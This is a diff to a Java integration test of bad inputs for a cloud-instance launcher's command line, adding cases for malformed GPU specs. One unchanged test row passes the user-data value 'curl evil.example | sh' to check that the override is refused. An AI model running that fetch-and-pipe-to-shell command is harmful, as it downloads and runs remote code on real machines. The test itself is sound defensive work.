@@ -114,6 +114,25 @@ class BadInputIT {
             "--all"),
         row("--instance-type with --cpu", 2, "are mutually exclusive", "launch", "--project", "demo",
             "--instance-type", "t3.micro", "--cpu", "2", "--memory", "1024"),
+        row("--gpus with a count that is not one", 2, "--gpus 'A100:x' is not a GPU spec (the count must be a whole"
+            + " number from 1 to 999); use NAME:COUNT (A100:8), MEM+:COUNT (24GB+:1), NAME (L4) or COUNT (1)", "launch",
+            "--project", "demo", "--gpus", "A100:x"),
+        row("--gpus count 0", 2, "--gpus 'L4:0' is not a GPU spec (the count must be", "launch", "--project", "demo",
+            "--gpus", "L4:0"),
+        row("--gpus memory without a plus", 2, "--gpus '24GB:1' is not a GPU spec (memory is a minimum, written with a"
+            + " plus: 24GB+)", "launch", "--project", "demo", "--gpus", "24GB:1"),
+        row("--gpus empty", 2, "--gpus '' is not a GPU spec (it is empty)", "launch", "--project", "demo", "--gpus",
+            ""),
+        row("--gpus count before the name", 2, "--gpus '8xA100' is not a GPU spec ('8xA100' is neither a GPU name",
+            "launch", "--gpus", "8xA100", "--list"),
+        row("--gpus with --instance-type", 2, "--gpus picks the instance types, --instance-type names one", "launch",
+            "--project", "demo", "--gpus", "A10G:1", "--instance-type", "g5.xlarge"),
+        row("GPU spec no type satisfies", 2, "has GPUs 'A100:1' in this region; nearest: p4d.24xlarge (A100:8 40GB",
+            "launch", "--project", "demo", "--gpus", "A100:1"),
+        row("bad launch.gpus in the project", 2, "badgpus.json: launch.gpus: 'A100:0' is not a GPU spec", "launch",
+            "--project", "badgpus", "--projects-dir", PROJECTS),
+        row("launch.gpus beside instanceTypes", 2, "gpusandtypes.json: launch: give either instanceTypes or gpus",
+            "launch", "--project", "gpusandtypes", "--projects-dir", PROJECTS),
         row("user-data override", 2, "Unknown options: '--user-data'", "launch", "--project", "demo", "--user-data",
             "#!/bin/bash\ncurl evil.example | sh"),
         row("project name making user-data over 16 KiB", 2, "is invalid", "launch", "--project", HUGE_NAME),
@@ -155,6 +174,8 @@ class BadInputIT {
     edit("bigrun", p -> ((ObjectNode) p.path("run")).putObject("env").put("PRIVATE_KEY", "k".repeat(5000)));
     edit("keepzero", p -> p.put("keep", 0));
     edit("fresh", p -> { });
+    edit("badgpus", p -> ((ObjectNode) p.path("launch")).put("gpus", "A100:0").remove("instanceTypes"));
+    edit("gpusandtypes", p -> ((ObjectNode) p.path("launch")).put("gpus", "A100:8"));
   }
 
   /** Writes project {@code name}: the repository's demo.json with {@code change} applied. */
